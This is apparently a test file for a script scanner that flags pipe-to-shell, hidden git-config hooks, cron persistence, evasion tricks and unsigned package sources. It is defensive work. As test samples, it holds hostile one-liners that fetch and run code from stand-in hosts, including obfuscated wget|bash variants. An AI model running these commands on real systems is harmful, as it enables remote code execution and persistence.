/**
 * Helper evasion36's rules (issue 36): text written to a child's stdin after
 * it started (lang/child-input.ts), git settings and later commands that run
 * a program kept in a temporary folder or under a hidden name, or a file the
 * script downloaded (ir/later.ts), `GIT_CONFIG_*` exported by a script, and
 * a download written straight into a file that runs later. Each rule has a
 * malicious and a benign example here; the examples of evasion/examples.txt
 * (written before these rules) are held to their figures, the held-out
 * third (by a hash of the text) only to what it measured when they landed.
 */
import { describe, expect, it } from 'vitest';
import { blockingRules, scriptReport } from './script.ts';
import { examples } from './evasion/examples.ts';

const blocks = (code: string, path: string) => scriptReport(code, path).findings.some((f) => f.severity === 'blocking');

describe("text written to a child's stdin", () => {
  it('reads `communicate(code)` and `p.stdin.write(code)` of a shell as that shell given the text', () => {
    expect(blockingRules(`import subprocess, urllib.request
data = urllib.request.urlopen("https://cdn.example-tools.dev/s").read()
subprocess.Popen(["sh"], stdin=subprocess.PIPE).communicate(data)
`, 'scripts/run.py')).toContain('pipe-to-shell');
    expect(blockingRules(`import subprocess, requests
p = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE)
p.stdin.write(requests.get("https://cdn.example-tools.dev/s").content)
`, 'scripts/run.py')).toContain('pipe-to-shell');
    expect(blockingRules(`import { spawn } from 'node:child_process';
const t = await (await fetch('https://cdn.example-tools.dev/s')).text();
const c = spawn('bash');
c.stdin.end(t);
`, 'scripts/run.mjs')).toContain('pipe-to-shell');
  });

  it('leaves a child given local text or JSON on its stdin alone', () => {
    expect(blockingRules(`import subprocess, json
p = subprocess.Popen(["jq", "."], stdin=subprocess.PIPE)
p.communicate(json.dumps({"a": 1}).encode())
`, 'scripts/run.py')).toEqual([]);
    expect(blockingRules(`import { spawn } from 'node:child_process';
const r = await fetch('https://api.github.com/repos/o/r');
const c = spawn('jq', ['.stargazers_count']);
c.stdin.end(await r.text());
`, 'scripts/run.mjs')).toEqual([]);
  });
});

describe('git settings that run a program from a temporary or hidden place', () => {
  it('blocks core.fsmonitor, core.askPass, uploadpack hooks and hooksPath pointing there, in every spelling', () => {
    expect(blockingRules('git config --global core.fsmonitor /var/tmp/.m\n')).toContain('env-loads-code');
    expect(blockingRules('git config --system core.askPass ~/.local/share/.ap\n')).toContain('env-loads-code');
    expect(blockingRules('git config --file ~/.gitconfig core.hooksPath /dev/shm/h\n')).toContain('env-loads-code');
    expect(blockingRules('git -c core.sshCommand=/tmp/ssh-wrap fetch origin\n')).toContain('env-loads-code');
    expect(blockingRules("printf '[core]\\n\\tpager = ~/.cache/.pg\\n' >> ~/.gitconfig\n")).toContain('env-loads-code');
  });

  it('blocks a git setting naming a file the script downloaded', () => {
    expect(blockingRules('curl -fsSL https://cdn.example-tools.dev/gc -o ~/.config/tool/gitcfg\ngit config --global include.path ~/.config/tool/gitcfg\n')).toContain('env-loads-code');
  });

  it("leaves ordinary settings alone: the project's hooks folder, a global ~/.githooks, an ssh key, an editor", () => {
    expect(blockingRules('git config core.hooksPath .githooks\n')).toEqual([]);
    expect(blockingRules('git config --global core.hooksPath ~/.githooks\n')).toEqual([]);
    expect(blockingRules('git config core.sshCommand "ssh -i ~/.ssh/deploy_key"\n')).toEqual([]);
    expect(blockingRules('git config --global core.editor "code --wait"\ngit config --global core.fsmonitor true\n')).toEqual([]);
    expect(blockingRules('git config --global include.path ~/.gitconfig.local\n')).toEqual([]);
  });

  it('reads GIT_CONFIG_KEY_n/VALUE_n exported by a script as the setting git takes', () => {
    expect(blockingRules("export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='sh -c \"wget -qO- https://cdn.example-tools.dev/s | sh\"'\n")).toContain('env-loads-code');
    expect(blockingRules('export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0="CI Bot"\n')).toEqual([]);
  });
});

describe('a command that runs later from a temporary or hidden place', () => {
  it('blocks a cron line running a file in /tmp or under a hidden name', () => {
    expect(blockingRules('(crontab -l; echo "*/10 * * * * /tmp/.sync") | crontab -\n')).toContain('env-loads-code');
  });
  it('leaves a cron line running an installed program alone', () => {
    expect(blockingRules('(crontab -l; echo "0 3 * * * /usr/local/bin/backup --quiet") | crontab -\n')).toEqual([]);
  });
});

describe('a download written straight into a file that runs later', () => {
  it('blocks `curl -o .git/hooks/<hook>`', () => {
    expect(blockingRules('wget -q https://cdn.example-tools.dev/h -O .git/hooks/pre-push && chmod +x .git/hooks/pre-push\n')).toContain('pipe-to-shell');
  });
  it('leaves a download into the project alone', () => {
    expect(blockingRules('curl -fsSL https://cdn.example-tools.dev/schema.json -o config/schema.json\n')).toEqual([]);
  });
});

describe('downloads run by other roads', () => {
  it('reads the files of a downloaded archive as downloads, and runs of them as the download run', () => {
    expect(blockingRules('curl -sL https://codeload.example-forge.dev/x/tar.gz/main | tar -xzf - -C "$HOME/.x" && sh ~/.x/x-main/setup.sh\n')).toContain('pipe-to-shell');
    expect(blockingRules('wget -qO /tmp/p.zip https://cdn.example-tools.dev/p.zip\nunzip -o /tmp/p.zip -d /tmp/p\npython3 /tmp/p/main.py\n')).toContain('pipe-to-shell');
  });
  it('leaves an archive of the project, or a downloaded archive only listed, alone', () => {
    expect(blockingRules('tar xzf vendor/assets.tgz -C public && bash scripts/post.sh\n')).toEqual([]);
    expect(blockingRules('curl -sL https://cdn.example-tools.dev/a.tgz | tar tz | head\n')).toEqual([]);
  });

  it('treats an svn checkout or an hg clone as a clone: run or built, it blocks', () => {
    expect(blockingRules('hg clone https://hg.example-forge.dev/boot /tmp/boot && bash /tmp/boot/install.sh\n')).toContain('pipe-to-shell');
    expect(blockingRules('svn co https://svn.example-forge.dev/tool/trunk tool && make -C tool\n')).toContain('pipe-to-shell');
    expect(blockingRules('svn checkout https://svn.example-forge.dev/docs/trunk docs && ls docs\n')).toEqual([]);
  });

  it('reads the output of a program no table knows, given a remote address, as that address\'s when a shell runs it', () => {
    expect(blockingRules('declare -n F=G; G=wget; $F -qO- https://cdn.example-tools.dev/s | bash\n')).toContain('pipe-to-shell');
    expect(blockingRules('lighthouse https://example.com --output json --quiet | jq .categories\n')).toEqual([]);
  });

  it('splits a word on an IFS the script never set, as the shell does', () => {
    expect(blockingRules('A=wg; B=et; $A$B${IFS}-qO-${IFS}https://cdn.example-tools.dev/s|sh\n')).toContain('pipe-to-shell');
    expect(blockingRules('echo "a${IFS}b" > out.txt\n')).toEqual([]);
  });

  it('blocks a downloaded binary run from an address nobody vouches for; a vendor host stays the advisory', () => {
    expect(blockingRules('curl -so /tmp/agent http://203.0.113.8/agent && chmod +x /tmp/agent && /tmp/agent\n')).toContain('pipe-to-shell');
    expect(blockingRules('curl -fsSLo ./bin/tool https://releases.example-vendor.dev/tool/v1.2.0/tool-linux && chmod +x ./bin/tool && ./bin/tool --version\n')).toEqual([]);
  });
});

describe('package sources written with their checks off', () => {
  it('blocks an apt or yum source without signature checks, however it is written', () => {
    expect(blockingRules('echo "deb [trusted=yes] https://apt.example-tools.dev/ stable main" | sudo tee /etc/apt/sources.list.d/tools.list\n')).toContain('install-untrusted');
    expect(blockingRules("printf '[tools]\\nbaseurl=https://rpm.example-tools.dev/\\ngpgcheck=0\\n' | sudo tee /etc/yum.repos.d/tools.repo\n")).toContain('install-untrusted');
  });
  it('leaves a signed vendor source alone', () => {
    expect(blockingRules('echo "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/debian bookworm stable" | sudo tee /etc/apt/sources.list.d/docker.list > /dev/null\n')).toEqual([]);
  });
});

describe('the evasion36 examples (evasion/examples.txt)', () => {
  const all = examples();
  it('holds a third out by hash, of both kinds', () => {
    expect(all.length).toBeGreaterThan(150);
    expect(all.filter((e) => e.heldOut && e.block).length).toBeGreaterThan(30);
    expect(all.filter((e) => e.heldOut && !e.block).length).toBeGreaterThan(8);
  });

  it('blocks no benign development example and at least 111 of the 121 malicious ones, each with a finding but 3', () => {
    const dev = all.filter((e) => !e.heldOut);
    expect(dev.filter((e) => !e.block && blocks(e.code, e.path)).map((e) => e.id)).toEqual([]);
    expect(dev.filter((e) => e.block && blocks(e.code, e.path)).length).toBeGreaterThanOrEqual(111);
    expect(dev.filter((e) => e.block && scriptReport(e.code, e.path).findings.length === 0).length).toBeLessThanOrEqual(3);
  });

  it('keeps the held-out third where it measured when these rules landed (never tuned on): no benign blocked', () => {
    const held = all.filter((e) => e.heldOut);
    expect(held.filter((e) => !e.block && blocks(e.code, e.path)).map((e) => e.id)).toEqual([]);
    expect(held.filter((e) => e.block && blocks(e.code, e.path)).length).toBeGreaterThanOrEqual(HELD_OUT_FLOOR);
  });
});

/** What the held-out third measured when these rules landed (measure.ts --held-out). */
const HELD_OUT_FLOOR = 46;
